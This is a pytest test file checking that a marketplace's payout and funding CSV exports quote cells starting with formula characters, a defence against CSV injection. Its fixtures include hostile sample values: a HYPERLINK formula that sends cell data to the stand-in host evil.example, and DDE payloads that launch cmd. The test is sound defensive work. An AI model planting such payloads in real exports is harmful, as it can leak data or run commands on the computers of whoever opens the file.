"""Every CSV export is safe to open in a spreadsheet: text that a spreadsheet would run as a
formula (OWASP's CSV-injection rule: a cell starting with = + - @, a tab or a carriage return)
is written with a leading quote, in every export, whoever typed it."""

import csv
import io

import pytest

from marketplace.core.exports import csv_safe
from payments import services
from payments.models import Payout
from tests.factories import PostingFactory, StaffFactory, StudentFactory

from .factories import ApplicationFactory, AssignmentFactory, employer_of
from .helpers import approve, pay_with_test_provider, ready_account

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ORG = "+cmd|' /C calc'!A0"
EMAIL = "-2+3@example.com"
MILESTONE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain = text", "plain = text"),
        ("", ""),
        (12, 12),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(text, written):
    assert csv_safe(text) == written


@pytest.fixture
def paid(test_provider, on_commit):
    posting = PostingFactory(title=TITLE)
    posting.employer.name = ORG
    posting.employer.save(update_fields=["name"])
    application = ApplicationFactory(posting=posting, student=StudentFactory(email=EMAIL))
    assignment = AssignmentFactory(application=application, amount=50000)
    assignment.milestones.update(title=MILESTONE)
    employer = employer_of(assignment)
    funding = services.funding_start(assignment=assignment, actor=employer)
    with on_commit():
        pay_with_test_provider(funding)
        ready_account(assignment.student)
    approve(assignment.milestones.get())
    with on_commit():
        services.payments_sweep()
    assert Payout.objects.get().status == Payout.Status.PAID
    return assignment, employer


def _rows(client, url):
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def _assert_no_formula(rows):
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the export has rows"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_every_export_quotes_formula_cells(client, paid):
    assignment, employer = paid
    client.force_login(assignment.student)
    earnings = _rows(client, "/payments/earnings/payouts.csv")
    client.force_login(employer)
    billing = _rows(client, "/payments/billing/fundings.csv")
    client.force_login(StaffFactory())
    all_payouts = _rows(client, "/payments/staff/payouts.csv")
    all_fundings = _rows(client, "/payments/staff/fundings.csv")

    for rows in (earnings, billing, all_payouts, all_fundings):
        _assert_no_formula(rows)
    assert earnings[1][2:5] == ["'" + EMAIL, "'" + TITLE, "'" + MILESTONE]
    assert all_payouts[1][2:5] == earnings[1][2:5]
    assert billing[1][2:5] == ["'" + ORG, "'" + TITLE, "'" + EMAIL]
    assert all_fundings[1][2:5] == billing[1][2:5]
